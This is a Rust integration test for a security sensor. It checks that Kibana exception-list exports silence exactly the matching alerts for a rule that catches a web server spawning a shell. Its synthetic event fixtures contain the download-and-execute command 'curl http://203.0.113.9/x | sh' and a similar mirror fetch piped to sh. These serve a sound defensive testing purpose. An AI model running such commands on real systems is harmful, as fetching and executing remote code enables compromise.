//! Exception lists end to end: a Kibana NDJSON export attached to a rule by
//! the configuration, by the rule file's own `exceptions_list`, or to every
//! rule, silences exactly the alerts its items match (replay applies them
//! as the live sensor does).
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::path::Path;
use std::process::Command;

use serde_json::json;

const SEED: &str = "497a7091-0ebd-44d7-88c4-367ab4d4d852";

/// A web server's shell (the seed rule's alert), with an id, a user and a
/// command line to tell the events apart.
fn event(id: &str, user: &str, args: &[&str]) -> String {
    json!({
        "@timestamp": "2026-03-01T10:00:00.000Z",
        "event": {"id": id, "kind": "event", "category": ["process"], "type": ["start"], "action": "exec"},
        "process": {"pid": 4242, "name": "sh", "args": args, "args_count": args.len(),
                    "parent": {"pid": 100, "name": "nginx", "args": ["nginx: worker process"], "interactive": false}},
        "container": {"id": "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"},
        "user": {"id": "33", "name": user},
    })
    .to_string()
}

/// Kibana's export of one list: a health-check shell run by the `probe`
/// user, and anything whose command line fetches from the internal mirror.
fn export() -> String {
    [
        json!({"_version": "WzEsMV0=", "created_at": "2026-02-01T00:00:00.000Z", "created_by": "elastic",
               "description": "Web tier tuning", "id": "5f0e4c40-0000-0000-0000-000000000001",
               "immutable": false, "list_id": "web-tuning", "name": "Web tier tuning",
               "namespace_type": "single", "os_types": [], "tags": [], "tie_breaker_id": "t",
               "type": "detection", "updated_at": "2026-02-01T00:00:00.000Z", "updated_by": "elastic", "version": 1}),
        json!({"_version": "WzIsMV0=", "comments": [], "created_at": "2026-02-01T00:00:00.000Z",
               "created_by": "elastic", "description": "health checks",
               "entries": [
                   {"field": "user.name", "operator": "included", "type": "match", "value": "probe"},
                   {"field": "process.args", "operator": "included", "type": "match_any", "value": ["/healthz.sh", "/ready.sh"]}
               ],
               "id": "5f0e4c40-0000-0000-0000-000000000002", "item_id": "health-checks",
               "list_id": "web-tuning", "name": "Health checks", "namespace_type": "single",
               "os_types": [], "tags": [], "tie_breaker_id": "t", "type": "simple",
               "updated_at": "2026-02-01T00:00:00.000Z", "updated_by": "elastic"}),
        json!({"comments": [], "description": "mirror", "entries": [
                   {"field": "process.args", "operator": "included", "type": "wildcard", "value": "*mirror.internal.example*"}
               ],
               "item_id": "mirror", "list_id": "web-tuning", "name": "Internal mirror",
               "namespace_type": "single", "os_types": [], "tags": [], "type": "simple"}),
        json!({"exported_exception_list_count": 1, "exported_exception_list_item_count": 2,
               "missing_exception_list_item_count": 0, "missing_exception_list_items": [],
               "missing_exception_lists": [], "missing_exception_lists_count": 0}),
    ]
    .iter()
    .map(|v| v.to_string() + "\n")
    .collect()
}

/// The ids of the alerted events, by replaying the events with `config`.
fn alerted(dir: &Path, config: &str, events: &[String]) -> Vec<String> {
    support::replay_with_config(dir, config, events)
        .iter()
        .map(|v| v["event"]["id"].as_str().unwrap().to_owned())
        .collect()
}

fn events() -> Vec<String> {
    vec![
        event(
            "attack",
            "www-data",
            &["sh", "-c", "curl http://203.0.113.9/x | sh"],
        ),
        event(
            "health",
            "probe",
            &["sh", "-c", "curl http://203.0.113.9/x | sh", "/healthz.sh"],
        ),
        // The same script by another user: the item needs both entries.
        event(
            "health-other-user",
            "www-data",
            &["sh", "-c", "curl http://203.0.113.9/x | sh", "/healthz.sh"],
        ),
        // The probe user running something else.
        event(
            "probe-other",
            "probe",
            &["sh", "-c", "curl http://203.0.113.9/x | sh"],
        ),
        event(
            "mirror",
            "www-data",
            &["sh", "-c", "curl http://mirror.internal.example/pkg | sh"],
        ),
        // Wildcards are case-sensitive.
        event(
            "mirror-upper",
            "www-data",
            &["sh", "-c", "curl http://MIRROR.internal.example/pkg | sh"],
        ),
    ]
}

const SILENCED: [&str; 2] = ["health", "mirror"];

fn expected() -> Vec<String> {
    events()
        .iter()
        .map(|e| {
            serde_json::from_str::<serde_json::Value>(e).unwrap()["event"]["id"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .filter(|id| !SILENCED.contains(&id.as_str()))
        .collect()
}

#[test]
fn a_kibana_export_attached_by_configuration_silences_exactly_its_matches() {
    let dir = tempfile::tempdir().unwrap();
    let export_path = dir.path().join("web-tuning.ndjson");
    std::fs::write(&export_path, export()).unwrap();
    let all: Vec<String> = events()
        .iter()
        .map(|e| {
            serde_json::from_str::<serde_json::Value>(e).unwrap()["event"]["id"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect();
    // Loaded but attached to nothing: every alert.
    let loaded = format!("exceptions = [\"{}\"]\n", export_path.display());
    assert_eq!(alerted(dir.path(), &loaded, &events()), all);
    // Attached to the rule.
    let per_rule =
        format!("{loaded}[rule_overrides.\"{SEED}\"]\nexceptions_list = [\"web-tuning\"]\n");
    assert_eq!(alerted(dir.path(), &per_rule, &events()), expected());
    // Attached to every rule.
    let global = format!("{loaded}global_exceptions = [\"web-tuning\"]\n");
    assert_eq!(alerted(dir.path(), &global, &events()), expected());
    // A directory of exception files works like the file.
    let sub = dir.path().join("exceptions.d");
    std::fs::create_dir(&sub).unwrap();
    std::fs::write(sub.join("web-tuning.ndjson"), export()).unwrap();
    let by_dir = format!(
        "exceptions = [\"{}\"]\nglobal_exceptions = [\"web-tuning\"]\n",
        sub.display()
    );
    assert_eq!(alerted(dir.path(), &by_dir, &events()), expected());
}

#[test]
fn a_rule_files_own_exceptions_list_reference_attaches_the_list() {
    let dir = tempfile::tempdir().unwrap();
    let export_path = dir.path().join("web-tuning.ndjson");
    std::fs::write(&export_path, export()).unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    let rule = format!(
        "{}\n[[rule.exceptions_list]]\nid = \"5f0e4c40-0000-0000-0000-000000000001\"\nlist_id = \"web-tuning\"\nnamespace_type = \"single\"\ntype = \"detection\"\n",
        sensor::rules::builtin::seed_text()
    );
    std::fs::write(rules.join("seed.toml"), rule).unwrap();
    let config = format!(
        "rules = [\"{}\"]\nexceptions = [\"{}\"]\n",
        rules.display(),
        export_path.display()
    );
    assert_eq!(alerted(dir.path(), &config, &events()), expected());
}

#[test]
fn a_configured_list_no_file_defines_stops_the_start() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("sensor.toml");
    std::fs::write(&cfg, "global_exceptions = [\"nope\"]\n").unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_sensor"))
        .args(["config", "check", "--config"])
        .arg(&cfg)
        .output()
        .unwrap();
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("exception list nope is not defined by any exceptions file"),
        "{stderr}"
    );
}
